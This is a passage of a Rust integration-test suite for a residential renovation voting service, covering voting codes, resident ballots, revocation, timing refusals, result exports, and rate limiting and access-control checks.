//! Renovation votes (issue 3): voting codes, resident login and ballots through the sync writer,
//! revocation and reissue, timing refusals, results (JSON, CSV, XLSX) and who may see what.

use super::*;
use linli_core::EntityKind;
use linli_core::renovation::{BallotChannel, ItemClass};
use linli_core::sync::Body;
use linli_tests::{Device, now_ms};
use serde_json::json;
use uuid::Uuid;

const DAY: u64 = 86_400_000;

/// A compound (one building, one unit, three households) and a project on it with a two-item menu.
struct Fx {
    s: TestServer,
    staff: Client,
    d: Device,
    compound: Uuid,
    /// 101 (80 m²), 102 (60 m²), 201 (100 m²).
    households: Vec<Uuid>,
    project: Uuid,
    items: Vec<Uuid>,
}

async fn push_ok(c: &Client, d: &Device, ops: Vec<linli_core::Operation>) {
    let r = c.push(&d.push_request(ops)).await.unwrap();
    for res in &r.results {
        assert_eq!(
            res.status,
            linli_core::protocol::OpStatus::Accepted,
            "{res:?}"
        );
    }
}

/// Opens yesterday, closes in 5 days, grace 2 (unless `timing` says otherwise).
async fn fixture() -> Fx {
    fixture_with((-1, 5, 2, false)).await
}

async fn fixture_with(timing: (i64, i64, u32, bool)) -> Fx {
    fixture_rules(timing, |_| {}).await
}

/// As [`fixture_with`], on a server whose rule set `edit` changed (a district's own thresholds).
async fn fixture_rules(
    timing: (i64, i64, u32, bool),
    edit: impl FnOnce(&mut linli_core::RuleSet),
) -> Fx {
    fixture_config(timing, |c| edit(&mut c.rules)).await
}

/// As [`fixture_with`], on a server whose configuration `edit` changed.
async fn fixture_config(
    timing: (i64, i64, u32, bool),
    edit: impl FnOnce(&mut linli_server::config::Config),
) -> Fx {
    let s = start_with(edit).await;
    let staff = s.client("alice").await;
    let mut d = Device::new("alice", COMMUNITY);
    let (compound, c_op) = d.compound("幸福里");
    let (b, b_op) = d.building(compound, "1号楼");
    let (u, u_op) = d.unit(b, "1单元");
    let mut ops = vec![c_op, b_op, u_op];
    let mut households = Vec::new();
    for (door, area) in [("101", 80.0), ("102", 60.0), ("201", 100.0)] {
        let (h, op) = d.household(u, door, area);
        households.push(h);
        ops.push(op);
    }
    push_ok(&staff, &d, ops).await;
    let mut fx = Fx {
        s,
        staff,
        d,
        compound,
        households,
        project: Uuid::nil(),
        items: Vec::new(),
    };
    let (p, items) = fx.add_project(timing).await;
    fx.project = p;
    fx.items = items;
    fx
}

impl Fx {
    async fn add_project(
        &mut self,
        (opens, closes, grace, show): (i64, i64, u32, bool),
    ) -> (Uuid, Vec<Uuid>) {
        let (p, p_op) = self
            .d
            .project(self.compound, "综合整治", opens, closes, grace, show);
        let (i1, i1_op) = self.d.menu_item(p, "路面", ItemClass::Basic, false);
        let (i2, i2_op) = self.d.menu_item(p, "加装电梯", ItemClass::Upgrade, true);
        push_ok(&self.staff, &self.d, vec![p_op, i1_op, i2_op]).await;
        (p, vec![i1, i2])
    }

    async fn post(&self, token: &str, path: &str, body: Value) -> (u16, Value) {
        status_json(
            self.s
                .http
                .post(self.s.url(path))
                .bearer_auth(token)
                .json(&body)
                .send()
                .await
                .unwrap(),
        )
        .await
    }

    async fn get(&self, token: &str, path: &str) -> (u16, Value) {
        status_json(
            self.s
                .http
                .get(self.s.url(path))
                .bearer_auth(token)
                .send()
                .await
                .unwrap(),
        )
        .await
    }

    /// Issues codes for `households` (all without one when `None`); returns the `codes` array.
    async fn issue(&self, project: Uuid, households: Option<Vec<Uuid>>) -> Vec<Value> {
        let body = match households {
            Some(h) => json!({ "households": h }),
            None => json!({}),
        };
        let got = self
            .post(
                &self.staff.token,
                &format!("/api/projects/{project}/codes"),
                body,
            )
            .await;
        assert_eq!(got.0, 200, "{}", got.1);
        got.1["codes"].as_array().unwrap().clone()
    }

    async fn vote_login(&self, code: &str, lang: Option<&str>) -> (u16, Value) {
        let mut r = self
            .s
            .http
            .post(self.s.url("/api/vote/login"))
            .json(&json!({ "code": code }));
        if let Some(l) = lang {
            r = r.header("Accept-Language", l);
        }
        status_json(r.send().await.unwrap()).await
    }

    /// Logs in with `code`; returns the token.
    async fn resident(&self, code: &str) -> String {
        let got = self.vote_login(code, None).await;
        assert_eq!(got.0, 200, "{}", got.1);
        got.1["token"].as_str().unwrap().to_string()
    }

    async fn vote(
        &self,
        token: &str,
        id: Uuid,
        agree: bool,
        items: &[Uuid],
        cast_at_ms: u64,
    ) -> (u16, Value) {
        self.post(
            token,
            "/api/vote/ballot",
            json!({ "id": id, "agree": agree, "items": items, "cast_at_ms": cast_at_ms }),
        )
        .await
    }

    /// The ballot operations the staff device pulls.
    async fn pulled_ballots(&self) -> Vec<linli_core::Operation> {
        self.staff
            .pull_all(0)
            .await
            .unwrap()
            .into_iter()
            .filter(|op| op.entity.kind == EntityKind::Ballot)
            .collect()
    }
}

fn code_of(codes: &[Value], household: Uuid) -> String {
    codes
        .iter()
        .find(|c| c["household_id"] == json!(household))
        .unwrap_or_else(|| panic!("no code for {household}"))["code"]
        .as_str()
        .unwrap()
        .to_string()
}

#[tokio::test]
async fn resident_votes_changes_the_vote_and_resends() {
    let fx = fixture().await;
    let codes = fx.issue(fx.project, None).await;
    assert_eq!(codes.len(), 3);
    let first = &codes[0];
    assert_eq!(first["household_id"], json!(fx.households[0]));
    assert_eq!(
        (&first["building"], &first["unit"], &first["door"]),
        (&json!("1号楼"), &json!("1单元"), &json!("101"))
    );
    let code = first["code"].as_str().unwrap();
    assert_eq!(code.len(), 19);
    assert!(
        code.chars()
            .enumerate()
            .all(|(i, c)| if [4, 9, 14].contains(&i) {
                c == '-'
            } else {
                "0123456789ABCDEFGHJKMNPQRSTVWXYZ".contains(c)
            }),
        "{code}"
    );
    assert_eq!(first["url"], json!(format!("{}/v/{code}", fx.s.url)));
    let svg = first["qr_svg"].as_str().unwrap();
    assert!(svg.starts_with("<svg") && svg.ends_with("</svg>"));
    // Default issuing skips households that already have a code.
    assert!(fx.issue(fx.project, None).await.is_empty());

    // Status per household, never the code.
    let list = fx
        .get(
            &fx.staff.token,
            &format!("/api/projects/{}/codes", fx.project),
        )
        .await;
    assert_eq!(list.0, 200, "{}", list.1);
    let rows = list.1.as_array().unwrap();
    assert_eq!(rows.len(), 3);
    assert!(
        rows.iter()
            .all(|r| r["status"] == "active" && r.get("code").is_none())
    );
    assert!(!list.1.to_string().contains(code));

    // Typed by hand: lower case, no dashes, O for 0 — still the code.
    let typed = code.replace('-', "").to_lowercase().replace('0', "o");
    let login = fx.vote_login(&typed, None).await;
    assert_eq!(login.0, 200, "{}", login.1);
    let v = &login.1;
    let token = v["token"].as_str().unwrap().to_string();
    assert!(v["expires_at"].as_u64().unwrap() >= now_ms() + 7 * DAY);
    assert_eq!(v["project"]["id"], json!(fx.project));
    assert_eq!(v["project"]["grace_days"], 2);
    assert_eq!(v["compound"]["name"], "幸福里");
    assert_eq!(v["household"]["door"], "101");
    assert_eq!(v["household"]["area_m2"], 80.0);
    assert_eq!(v["menu"].as_array().unwrap().len(), 2);
    assert_eq!(v["menu"][0]["name"], "路面");
    assert_eq!(v["menu"][1]["owners_decision"], true);
    assert_eq!(v["open"], true);
    assert_eq!(v["my_ballot"], Value::Null);

    // First answer.
    let now = now_ms();
    let b1 = Uuid::now_v7();
    let got = fx.vote(&token, b1, true, &fx.items, now - 60_000).await;
    assert_eq!(got.0, 200, "{}", got.1);
    assert_eq!(got.1["status"], "accepted", "{}", got.1);
    let receipt = &got.1["receipt"];
    assert_eq!(receipt["ballot_id"], json!(b1));
    assert_eq!(receipt["door"], "101");
    assert_eq!(receipt["agree"], true);
    assert_eq!(receipt["items"], json!(fx.items));
    assert_eq!(receipt["cast_at_ms"], now - 60_000);
    assert!(receipt["received_at_ms"].as_u64().unwrap() >= now);

    // Changed answer: the later one counts, both are kept.
    let b2 = Uuid::now_v7();
    let got = fx.vote(&token, b2, false, &[], now).await;
    assert_eq!(got.1["status"], "accepted", "{}", got.1);
    let me = fx.get(&token, "/api/vote/me").await;
    assert_eq!(me.0, 200, "{}", me.1);
    assert!(me.1.get("token").is_none());
    assert_eq!(me.1["my_ballot"]["agree"], false);
    assert_eq!(me.1["my_ballot"]["received"], true);
    assert_eq!(me.1["my_ballot"]["cast_at_ms"], now);

    let results = fx
        .get(
            &fx.staff.token,
            &format!("/api/projects/{}/results", fx.project),
        )
        .await;
    assert_eq!(results.0, 200, "{}", results.1);
    assert_eq!(results.1["coverage"]["responded"], 1);
    assert_eq!(results.1["coverage"]["total"], 3);
    assert_eq!(results.1["agreement"]["households"], 0);
    assert_eq!(results.1["changed_answers"], 1);

    // Re-sending the same ballot: `duplicate`, the same receipt, stored once.
    let again = fx.vote(&token, b2, false, &[], now).await;
    assert_eq!(again.0, 200, "{}", again.1);
    assert_eq!(again.1["status"], "duplicate", "{}", again.1);
    assert_eq!(again.1["receipt"]["ballot_id"], json!(b2));
    assert_eq!(again.1["receipt"]["agree"], false);

    // Staff devices pull both ballots, recorded as the resident's.
    let ballots = fx.pulled_ballots().await;
    assert_eq!(ballots.len(), 2);
    assert_eq!(ballots[0].id, b1);
    assert_eq!(ballots[1].id, b2);
    assert_eq!(ballots[0].device_id, ballots[1].device_id);
    for op in &ballots {
        assert_eq!(op.author, "resident");
        let Body::BallotCast(b) = &op.body else {
            panic!()
        };
        assert_eq!(b.channel, BallotChannel::Resident);
        assert_eq!(b.household_id, fx.households[0]);
        assert_eq!(b.project_id, fx.project);
    }

    // An id another record uses is refused; an item off the menu is rejected with its field.
    let other_id = fx.staff.pull_all(0).await.unwrap()[0].id;
    let taken = fx.vote(&token, other_id, true, &[], now).await;
    assert_error(&taken, 400, "invalid_request", Some("id"));
    let off_menu = fx
        .vote(&token, Uuid::now_v7(), true, &[Uuid::now_v7()], now)
        .await;
    assert_eq!(off_menu.1["status"], "rejected", "{}", off_menu.1);
    assert_eq!(off_menu.1["code"], "not_in_project");
    assert_eq!(off_menu.1["field"], "items[0]");
    assert!(off_menu.1.get("receipt").is_none());
    // Bad requests name the field and store nothing.
    let bad = fx
        .post(
            &token,
            "/api/vote/ballot",
            json!({ "id": Uuid::now_v7(), "agree": "yes", "cast_at_ms": now }),
        )
        .await;
    assert_error(&bad, 400, "invalid_request", Some("agree"));
    let unknown = fx
        .post(
            &token,
            "/api/vote/ballot",
            json!({ "id": Uuid::now_v7(), "agree": true, "cast_at_ms": now, "household_id": fx.households[1] }),
        )
        .await;
    assert_eq!(unknown.0, 400, "{}", unknown.1);
    assert_eq!(unknown.1["error"]["code"], "invalid_request");
    let future = fx
        .vote(&token, Uuid::now_v7(), true, &[], now + 2 * DAY)
        .await;
    assert_eq!(future.1["code"], "clock_ahead", "{}", future.1);
    assert_eq!(fx.pulled_ballots().await.len(), 2);
}

#[tokio::test]
async fn revoke_and_reissue() {
    let fx = fixture().await;
    let [h1, h2, h3] = [fx.households[0], fx.households[1], fx.households[2]];
    let codes = fx.issue(fx.project, Some(vec![h1])).await;
    assert_eq!(codes.len(), 1);
    let old = code_of(&codes, h1);
    let list = fx
        .get(
            &fx.staff.token,
            &format!("/api/projects/{}/codes", fx.project),
        )
        .await;
    let statuses: Vec<_> = list
        .1
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["status"].clone())
        .collect();
    assert_eq!(statuses, [json!("active"), json!("none"), json!("none")]);

    // Naming a household that has a code, or one of another compound: refused, nothing issued.
    let dup = fx
        .post(
            &fx.staff.token,
            &format!("/api/projects/{}/codes", fx.project),
            json!({ "households": [h2, h1] }),
        )
        .await;
    assert_error(&dup, 409, "already_issued", Some("households[1]"));
    let stranger = fx
        .post(
            &fx.staff.token,
            &format!("/api/projects/{}/codes", fx.project),
            json!({ "households": [Uuid::now_v7()] }),
        )
        .await;
    assert_error(&stranger, 400, "invalid_request", Some("households[0]"));

    let token = fx.resident(&old).await;
    let revoked = fx
        .post(
            &fx.staff.token,
            &format!("/api/projects/{}/codes/{h1}/revoke", fx.project),
            json!({}),
        )
        .await;
    assert_eq!(revoked.0, 200, "{}", revoked.1);
    assert_eq!(revoked.1["status"], "revoked");
    assert!(revoked.1["revoked_at_ms"].as_u64().is_some());

    // The revoked code cannot log in, and its open login cannot vote; nothing is stored.
    let zh = fx.vote_login(&old, None).await;
    assert_error(&zh, 401, "code_revoked", None);
    assert!(
        zh.1["error"]["message"]
            .as_str()
            .unwrap()
            .contains("投票码")
    );
    let en = fx.vote_login(&old, Some("en-GB,en;q=0.9")).await;
    assert_error(&en, 401, "code_revoked", None);
    assert!(
        en.1["error"]["message"]
            .as_str()
            .unwrap()
            .contains("voting code")
    );
    let vote = fx.vote(&token, Uuid::now_v7(), true, &[], now_ms()).await;
    assert_error(&vote, 401, "code_revoked", None);
    assert_error(
        &fx.get(&token, "/api/vote/me").await,
        401,
        "code_revoked",
        None,
    );
    assert!(fx.pulled_ballots().await.is_empty());

    // Reissue: a new code that works; the old one still does not.
    let re = fx
        .post(
            &fx.staff.token,
            &format!("/api/projects/{}/codes/{h1}/reissue", fx.project),
            json!({}),
        )
        .await;
    assert_eq!(re.0, 200, "{}", re.1);
    let new = code_of(re.1["codes"].as_array().unwrap(), h1);
    assert_ne!(new, old);
    assert_error(&fx.vote_login(&old, None).await, 401, "code_revoked", None);
    let token = fx.resident(&new).await;
    let got = fx
        .vote(&token, Uuid::now_v7(), true, &[fx.items[0]], now_ms())
        .await;
    assert_eq!(got.1["status"], "accepted", "{}", got.1);
    assert_eq!(fx.pulled_ballots().await.len(), 1);
    // Reissue also works for a household that never had a code; default issuing covers the rest.
    let re3 = fx
        .post(
            &fx.staff.token,
            &format!("/api/projects/{}/codes/{h3}/reissue", fx.project),
            json!({}),
        )
        .await;
    assert_eq!(re3.1["codes"].as_array().unwrap().len(), 1);
    let rest = fx.issue(fx.project, None).await;
    assert_eq!(rest.len(), 1);
    assert_eq!(rest[0]["household_id"], json!(h2));
    // Unknown household: 404 naming it.
    let missing = fx
        .post(
            &fx.staff.token,
            &format!(
                "/api/projects/{}/codes/{}/revoke",
                fx.project,
                Uuid::now_v7()
            ),
            json!({}),
        )
        .await;
    assert_error(&missing, 404, "not_found", Some("household_id"));
}

#[tokio::test]
async fn closed_survey_and_late_arrival_are_refused_with_reasons() {
    let mut fx = fixture().await;
    // Closed yesterday, grace 5: a ballot cast now is cast after the close.
    let (closed, _) = fx.add_project((-10, -1, 5, false)).await;
    // Closed 3 days ago with 2 days of grace: cast in time, arrived too late.
    let (late, _) = fx.add_project((-10, -3, 2, false)).await;
    let h = fx.households[0];
    let closed_code = code_of(&fx.issue(closed, Some(vec![h])).await, h);
    let late_code = code_of(&fx.issue(late, Some(vec![h])).await, h);

    let login = fx.vote_login(&closed_code, None).await;
    assert_eq!(login.0, 200, "{}", login.1);
    assert_eq!(login.1["open"], false);
    let token = login.1["token"].as_str().unwrap().to_string();
    let got = fx.vote(&token, Uuid::now_v7(), true, &[], now_ms()).await;
    assert_eq!(got.0, 200, "{}", got.1);
    assert_eq!(got.1["status"], "rejected");
    assert_eq!(got.1["code"], "survey_closed");
    assert!(
        got.1["message"].as_str().unwrap().contains("结束"),
        "{}",
        got.1
    );
    assert!(got.1.get("receipt").is_none());

    let token = fx.resident(&late_code).await;
    let cast = linli_core::renovation::start_of_day_ms(linli_tests::day(-3)) as u64 + 3_600_000;
    let got = fx.vote(&token, Uuid::now_v7(), true, &[], cast).await;
    assert_eq!(got.1["status"], "rejected", "{}", got.1);
    assert_eq!(got.1["code"], "arrived_too_late");
    assert!(!got.1["message"].as_str().unwrap().is_empty());
    assert!(fx.pulled_ballots().await.is_empty(), "nothing stored");

    // After the close, residents may see the results.
    let res = fx.get(&token, "/api/vote/results").await;
    assert_eq!(res.0, 200, "{}", res.1);
    assert_eq!(res.1["coverage"]["responded"], 0);
}

#[tokio::test]
async fn running_results_only_when_the_project_shows_them() {
    // Three households only: the minimum of answers before running results show is set to 2 here
    // (the national default of 10 is tested in the core and in `running_results_wait_for_enough_answers`).
    let mut fx = fixture_rules((-1, 5, 2, false), |r| {
        r.renovation.running_results_min_households = 2
    })
    .await;
    let (shown, shown_items) = fx.add_project((-1, 5, 2, true)).await;
    let [h1, h2] = [fx.households[0], fx.households[1]];
    let hidden_code = code_of(&fx.issue(fx.project, Some(vec![h1])).await, h1);
    let token = fx.resident(&hidden_code).await;
    let res = fx.get(&token, "/api/vote/results").await;
    assert_error(&res, 403, "results_not_available", None);

    let codes = fx.issue(shown, Some(vec![h1, h2])).await;
    let t1 = fx.resident(&code_of(&codes, h1)).await;
    let t2 = fx.resident(&code_of(&codes, h2)).await;
    let now = now_ms();
    fx.vote(&t1, Uuid::now_v7(), true, &[shown_items[1]], now)
        .await;
    fx.vote(&t2, Uuid::now_v7(), false, &[], now).await;
    let res = fx.get(&t1, "/api/vote/results").await;
    assert_eq!(res.0, 200, "{}", res.1);
    assert_eq!(res.1["coverage"]["responded"], 2);
    assert_eq!(res.1["agreement"]["households"], 1);
    assert_eq!(res.1["menu"][1]["name"], "加装电梯");
    // Aggregates only: no household is named.
    let text = res.1.to_string();
    for h in &fx.households {
        assert!(!text.contains(&h.to_string()), "{text}");
    }
    // The resident sees their own ballot, not the neighbour's.
    let me = fx.get(&t2, "/api/vote/me").await;
    assert_eq!(me.1["my_ballot"]["agree"], false);
}

#[tokio::test]
async fn results_count_staff_and_resident_ballots_and_export() {
    let mut fx = fixture().await;
    let [h1, h2, h3] = [fx.households[0], fx.households[1], fx.households[2]];
    let now = now_ms();
    // Door to door, on paper, pushed by a staff device.
    let (_, b1) = fx.d.ballot(
        fx.project,
        h1,
        true,
        vec![fx.items[0], fx.items[1]],
        now - 1000,
        BallotChannel::Staff,
    );
    let (_, b2) = fx.d.ballot(
        fx.project,
        h2,
        true,
        vec![fx.items[1]],
        now - 1000,
        BallotChannel::Staff,
    );
    push_ok(&fx.staff, &fx.d, vec![b1, b2]).await;
    // On a phone.
    let code = code_of(&fx.issue(fx.project, Some(vec![h3])).await, h3);
    let token = fx.resident(&code).await;
    let got = fx.vote(&token, Uuid::now_v7(), false, &[], now).await;
    assert_eq!(got.1["status"], "accepted", "{}", got.1);
    // A staff ballot for the resident's own household shows as theirs.
    let me = fx.get(&token, "/api/vote/me").await;
    assert_eq!(me.1["my_ballot"]["agree"], false);

    let res = fx
        .get(
            &fx.staff.token,
            &format!("/api/projects/{}/results", fx.project),
        )
        .await;
    assert_eq!(res.0, 200, "{}", res.1);
    let r = &res.1;
    assert_eq!(r["coverage"]["responded"], 3);
    assert_eq!(r["coverage"]["total"], 3);
    assert_eq!(r["coverage"]["ratio"], 1.0);
    assert_eq!(r["coverage"]["met"], true);
    assert_eq!(
        r["coverage"]["threshold"],
        json!({"num": 2, "den": 3, "strict": false})
    );
    assert_eq!(r["households_total"], 3);
    assert_eq!(r["agreement"]["households"], 2);
    assert_eq!(r["agreement"]["area_m2"], 140.0);
    assert_eq!(r["items"][0]["id"], json!(fx.items[0]));
    assert_eq!(r["items"][0]["households"], 1);
    assert_eq!(r["items"][1]["households"], 2);
    assert_eq!(r["project"]["id"], json!(fx.project));
    assert_eq!(r["menu"][0]["id"], json!(fx.items[0]));
    assert!(
        r["art278"]["explanation_zh"]
            .as_str()
            .is_some_and(|s| !s.is_empty())
    );
    // Hand-worked (R9, ordinary matter): all 3 owners and 240 m² took part (≥ 2/3); 2 of 3 owners and
    // 140 of 240 m² (58.3%) consent, both more than half: passed.
    assert_eq!(r["art278"]["participation"]["meets"], true);
    assert_eq!(r["art278"]["consent"]["owners"], 2);
    assert_eq!(r["art278"]["consent"]["area_m2"], 140.0);
    assert_eq!(r["art278"]["passed"], true);

    // CSV: BOM, a header row, summary then items, as an attachment.
    let resp =
        fx.s.http
            .get(fx.s.url(&format!("/api/projects/{}/results.csv", fx.project)))
            .bearer_auth(&fx.staff.token)
            .send()
            .await
            .unwrap();
    assert_eq!(resp.status(), 200);
    assert!(
        resp.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    assert_eq!(
        resp.headers()["content-disposition"],
        format!("attachment; filename=\"results-{}.csv\"", fx.project).as_str()
    );
    let bytes = resp.bytes().await.unwrap();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF");
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    let mut lines = text.lines();
    assert_eq!(lines.next(), Some("指标 (Measure),数值 (Value)"));
    assert!(text.contains("覆盖率 (Coverage),100.0%"), "{text}");
    assert!(text.contains("序号 (No.),改造内容 (Item)"), "{text}");
    // Issue 9: the cost and the share are columns (a blank share: residents pay nothing), never the
    // form's hint 「可不填」; the XLSX has the same header.
    assert!(
        text.contains("序号 (No.),改造内容 (Item),类别 (Class),估算费用（元） (Estimated cost (yuan)),每户出资（元） (Share per household (yuan)),支持户数"),
        "{text}"
    );
    assert!(
        text.contains("1,路面,基础类 (basic),100000,,1,80,33.3%"),
        "{text}"
    );
    assert!(!text.contains("可不填"), "{text}");

    // XLSX: a zip, with its content type.
    let resp =
        fx.s.http
            .get(fx.s.url(&format!("/api/projects/{}/results.xlsx", fx.project)))
            .bearer_auth(&fx.staff.token)
            .send()
            .await
            .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(
        resp.headers()["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    assert!(
        resp.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .contains(".xlsx")
    );
    let bytes = resp.bytes().await.unwrap();
    assert_eq!(&bytes[..2], b"PK");
    let cells = crate::xlsx_text(&bytes);
    for header in [
        "估算费用（元） (Estimated cost (yuan))",
        "每户出资（元） (Share per household (yuan))",
    ] {
        assert!(cells.contains(header), "{header} in {cells}");
    }
}

#[tokio::test]
async fn tokens_stay_in_their_lane_and_communities_apart() {
    let fx = fixture().await;
    let h = fx.households[0];
    let code = code_of(&fx.issue(fx.project, Some(vec![h])).await, h);
    let token = fx.resident(&code).await;
    let p = fx.project;
    // A resident's token opens none of the staff endpoints.
    for path in [
        "/api/sync/pull".to_string(),
        "/api/me".to_string(),
        format!("/api/projects/{p}/results"),
        format!("/api/projects/{p}/results.csv"),
        format!("/api/projects/{p}/codes"),
    ] {
        assert_error(
            &fx.get(&token, &path).await,
            403,
            "forbidden",
            Some("authorization"),
        );
    }
    let push = fx
        .post(
            &token,
            "/api/sync/push",
            json!({ "device_id": Uuid::now_v7(), "ops": [] }),
        )
        .await;
    assert_error(&push, 403, "forbidden", Some("authorization"));
    let issue = fx
        .post(&token, &format!("/api/projects/{p}/codes"), json!({}))
        .await;
    assert_error(&issue, 403, "forbidden", Some("authorization"));
    // A staff token is not a resident login.
    assert_error(
        &fx.get(&fx.staff.token, "/api/vote/me").await,
        403,
        "forbidden",
        Some("authorization"),
    );
    let vote = fx
        .vote(&fx.staff.token, Uuid::now_v7(), true, &[], now_ms())
        .await;
    assert_error(&vote, 403, "forbidden", Some("authorization"));
    assert_error(
        &fx.get("nonsense", "/api/vote/me").await,
        401,
        "unauthorized",
        None,
    );

    // Another community's staff: the project does not exist for them.
    fx.s.add_user("bob", "staff", "c2");
    let bob = fx.s.client("bob").await;
    for path in [
        format!("/api/projects/{p}/results"),
        format!("/api/projects/{p}/results.xlsx"),
        format!("/api/projects/{p}/codes"),
    ] {
        assert_error(
            &fx.get(&bob.token, &path).await,
            404,
            "not_found",
            Some("project_id"),
        );
    }
    assert_error(
        &fx.post(&bob.token, &format!("/api/projects/{p}/codes"), json!({}))
            .await,
        404,
        "not_found",
        Some("project_id"),
    );
    assert_error(
        &fx.post(
            &bob.token,
            &format!("/api/projects/{p}/codes/{h}/revoke"),
            json!({}),
        )
        .await,
        404,
        "not_found",
        Some("project_id"),
    );
    assert_error(
        &fx.get(&fx.staff.token, "/api/projects/not-a-uuid/results")
            .await,
        404,
        "not_found",
        Some("project_id"),
    );
    // The code still works after all that.
    assert_eq!(fx.vote_login(&code, None).await.0, 200);
}

#[tokio::test]
async fn a_flood_of_wrong_codes_slows_the_flooders_and_never_a_resident_with_a_clean_address() {
    // Hardening (issue 7.3): 2,000 wrong codes from 200 addresses (behind a trusted proxy, here loopback)
    // used to hit a global ceiling that then refused every resident's valid code for 10 minutes.
    let fx = fixture_config((-1, 5, 2, false), |c| {
        c.trusted_proxies = vec!["127.0.0.1".parse().unwrap()]
    })
    .await;
    let h = fx.households[0];
    let code = code_of(&fx.issue(fx.project, Some(vec![h])).await, h);
    let try_code = |from: String, code: String| {
        let (http, url) = (fx.s.http.clone(), fx.s.url("/api/vote/login"));
        async move {
            let r = http
                .post(url)
                .header("X-Forwarded-For", from)
                .json(&json!({ "code": code }))
                .send()
                .await
                .unwrap();
            let retry = r
                .headers()
                .get("retry-after")
                .map(|v| v.to_str().unwrap().parse::<u64>().unwrap());
            (r.status().as_u16(), retry, r.json::<Value>().await.unwrap())
        }
    };
    let mut statuses = std::collections::BTreeMap::<u16, usize>::new();
    for round in 0..10 {
        let wave: Vec<_> = (0..200)
            .map(|a| {
                try_code(
                    format!("10.9.{}.{}", a / 100, a % 100),
                    format!("ABCD-EFGH-JKMN-{round:02}{:02}", a % 100),
                )
            })
            .collect();
        for (status, _, _) in futures_join(wave).await {
            *statuses.entry(status).or_default() += 1;
        }
    }
    // Ten rounds of one wrong code per address: each address has its ten free failures.
    assert_eq!(statuses, [(401, 2_000)].into_iter().collect());
    // A resident from an address that made no failures gets in during the flood.
    let (status, _, body) = try_code("203.0.113.9".into(), code.clone()).await;
    assert_eq!(status, 200, "{body}");
    // A flooding address, even with the right code, waits: 429 with Retry-After and the wait in words.
    let (status, retry, body) = try_code("10.9.0.5".into(), code.clone()).await;
    assert_eq!(status, 429, "{body}");
    let retry = retry.expect("Retry-After");
    assert!((1..=2).contains(&retry), "{retry}");
    let msg = body["error"]["message"].as_str().unwrap();
    assert!(
        msg.starts_with("投票码输错次数过多，请 ") && msg.ends_with(" 秒后再试"),
        "{msg}"
    );
}

/// Runs the futures concurrently and returns their outputs in order.
async fn futures_join<F>(fs: Vec<F>) -> Vec<F::Output>
where
    F: std::future::Future + Send + 'static,
    F::Output: Send + 'static,
{
    let handles: Vec<_> = fs.into_iter().map(tokio::spawn).collect();
    let mut out = Vec::with_capacity(handles.len());
    for h in handles {
        out.push(h.await.unwrap());
    }
    out
}

#[tokio::test]
async fn guessing_codes_is_rate_limited() {
    let fx = fixture().await;
    let h = fx.households[0];
    let code = code_of(&fx.issue(fx.project, Some(vec![h])).await, h);
    for i in 0..10 {
        let guess = format!("ABCD-EFGH-JKMN-{:04}", i);
        assert_error(
            &fx.vote_login(&guess, None).await,
            401,
            "code_revoked",
            None,
        );
    }
    let eleventh = fx.vote_login("ABCD-EFGH-JKMN-9999", None).await;
    assert_error(&eleventh, 429, "too_many_attempts", None);
    // From that address even the right code waits.
    assert_error(
        &fx.vote_login(&code, None).await,
        429,
        "too_many_attempts",
        None,
    );
    let junk =
        fx.s.http
            .post(fx.s.url("/api/vote/login"))
            .json(&json!({ "code": "x", "extra": 1 }))
            .send()
            .await
            .unwrap();
    assert_eq!(junk.status(), 400);
}

/// Reads `v` as the typed answer `T` and writes it back: nothing may be lost, added or reformatted
/// (a float stays a float, `null` stays present, absent stays absent).
fn round_trips<T: serde::de::DeserializeOwned + serde::Serialize>(v: &Value) -> T {
    let typed: T = serde_json::from_value(v.clone()).unwrap_or_else(|e| panic!("{e}: {v}"));
    assert_eq!(&serde_json::to_value(&typed).unwrap(), v);
    typed
}

/// The JSON of the renovation endpoints, pinned: each answer read into its `linli_core::renovation::api`
/// type and written back unchanged, and compared with the JSON written out by hand for one small project
/// (the shapes the app and the browser tests read).
#[tokio::test]
async fn renovation_json_shapes_are_pinned() {
    use linli_core::renovation::api;
    // Running results shown from the first answer (K = 1), so the shape of a one-answer result is seen.
    let fx = fixture_rules((-1, 5, 2, true), |r| {
        r.renovation.running_results_min_households = 1
    })
    .await;
    let [h1, h2, h3] = [fx.households[0], fx.households[1], fx.households[2]];
    let [i1, i2] = [fx.items[0], fx.items[1]];
    let p = fx.project;
    let status = |h: Uuid, door: &str| {
        json!({ "household_id": h, "building": "1号楼", "unit": "1单元", "door": door,
            "status": "none", "issued_at_ms": null, "revoked_at_ms": null })
    };

    // Code status before any code: every field present, `null` where nothing happened.
    let list = fx
        .get(&fx.staff.token, &format!("/api/projects/{p}/codes"))
        .await;
    assert_eq!(list.0, 200, "{}", list.1);
    round_trips::<Vec<api::CodeStatus>>(&list.1);
    assert_eq!(
        list.1,
        json!([status(h1, "101"), status(h2, "102"), status(h3, "201")])
    );

    // Issuing: the slip.
    let got = fx
        .post(
            &fx.staff.token,
            &format!("/api/projects/{p}/codes"),
            json!({ "households": [h1] }),
        )
        .await;
    assert_eq!(got.0, 200, "{}", got.1);
    let issued: api::IssuedCodes = round_trips(&got.1);
    let slip = &issued.codes[0];
    assert_eq!(
        got.1,
        json!({ "codes": [{ "household_id": h1, "building": "1号楼", "unit": "1单元", "door": "101",
            "code": slip.code, "qr_svg": slip.qr_svg, "url": format!("{}/v/{}", fx.s.url, slip.code) }] })
    );
    let list = fx
        .get(&fx.staff.token, &format!("/api/projects/{p}/codes"))
        .await;
    let rows: Vec<api::CodeStatus> = round_trips(&list.1);
    assert_eq!(rows[0].status, api::CodeState::Active);
    let mut active = status(h1, "101");
    active["status"] = json!("active");
    active["issued_at_ms"] = json!(rows[0].issued_at_ms.unwrap());
    assert_eq!(list.1[0], active);

    // The resident's login.
    let login = fx.vote_login(&slip.code, None).await;
    assert_eq!(login.0, 200, "{}", login.1);
    let typed: api::VoteLoginResponse = round_trips(&login.1);
    let menu = json!([
        { "id": i1, "name": "路面", "class": "basic", "catalogue": null, "description": "路面：说明",
          "cost_yuan": 100000.0, "share_per_household_yuan": null, "owners_decision": false,
          "matter": "ordinary", "position": 0, "electorate": { "scope": "compound" } },
        { "id": i2, "name": "加装电梯", "class": "upgrade", "catalogue": null, "description": "加装电梯：说明",
